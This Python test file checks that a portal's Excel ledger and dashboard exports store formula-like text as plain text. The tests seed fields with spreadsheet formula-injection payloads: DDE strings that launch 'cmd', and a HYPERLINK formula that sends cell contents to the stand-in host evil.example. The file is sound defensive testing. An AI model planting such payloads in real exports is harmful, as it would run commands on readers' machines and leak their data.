"""Exports that cannot attack their readers: text that looks like a formula is written as text
in the ledger and the dashboard workbooks (read back with openpyxl: no formula cells)."""

import io
from datetime import timedelta

import sqlalchemy as sa
from openpyxl import load_workbook

from portal.accounts.operations import create_department
from portal.audit.chain import Actor
from portal.core.extensions import db
from portal.core.timeutil import today
from portal.inspections.models import Category, Inspection, RectificationItem
from portal.inspections.operations import add_measure, create_item
from portal.ledger.xlsx import LedgerRow, read_ledger, write_ledger

#: What a spreadsheet runs when it opens a cell holding one of these as a formula.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)


def _cells(body: bytes):
    book = load_workbook(io.BytesIO(body))  # not data_only: formulas would show as formulas
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formulas(body: bytes, expected_texts):
    cells = list(_cells(body))
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in cells}
    for text in expected_texts:
        assert text in values, text  # the text itself, unchanged


def _row(text: str, n: int = 1) -> LedgerRow:
    return LedgerRow(
        number=str(n),
        category=text,
        title=text,
        measures=[("一是", text)],
        leader=text,
        department=text,
        staff=text,
        deadline=None,
        status=text,
        progress=10,
        completion_summary=text,
        evidence_count=0,
    )


def test_the_ledger_writes_formula_text_as_text():
    body = write_ledger(FORMULAS[0], [_row(text, n) for n, text in enumerate(FORMULAS, 1)])
    _assert_no_formulas(body, FORMULAS)
    quoted = [c for c in _cells(body) if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert quoted and all(c.quotePrefix for c in quoted)  # stays text when the cell is edited
    rows = read_ledger(io.BytesIO(body)).rows
    assert [r.title for r in rows] == list(FORMULAS)


def test_the_ledger_export_of_a_planted_title_has_no_formula(app, world, signed_in):
    item_id = world.new_item()
    with app.app_context():
        world.item(item_id).title = FORMULAS[0]
        add_measure(Actor.system("test"), world.item(item_id), label="一是", text=FORMULAS[1])
        db.session.commit()
    response = signed_in("office").get(f"/inspections/{world.inspections['single']}/ledger.xlsx")
    assert response.status_code == 200
    _assert_no_formulas(response.data, [FORMULAS[0], "一是" + FORMULAS[1]])


def test_the_dashboard_workbook_writes_formula_text_as_text(app, world, signed_in):
    with app.app_context():
        actor = Actor.system("test")
        inspection = db.session.get(Inspection, world.inspections["single"])
        inspection.title = FORMULAS[1]
        create_item(
            actor,
            inspection,
            category=db.session.get(Category, world.categories["single"]),
            title=FORMULAS[0],
            number=FORMULAS[4],
            responsible_leader=world.user("leader_resp"),
            staff=world.user("staff_resp"),
            department=create_department(actor, FORMULAS[2]),
            deadline=today() - timedelta(days=3),
        )
        db.session.commit()
        assert db.session.scalar(sa.select(sa.func.count()).select_from(RectificationItem)) == 1
    response = signed_in("office").get("/dashboard.xlsx")
    assert response.status_code == 200
    _assert_no_formulas(response.data, [FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[4]])
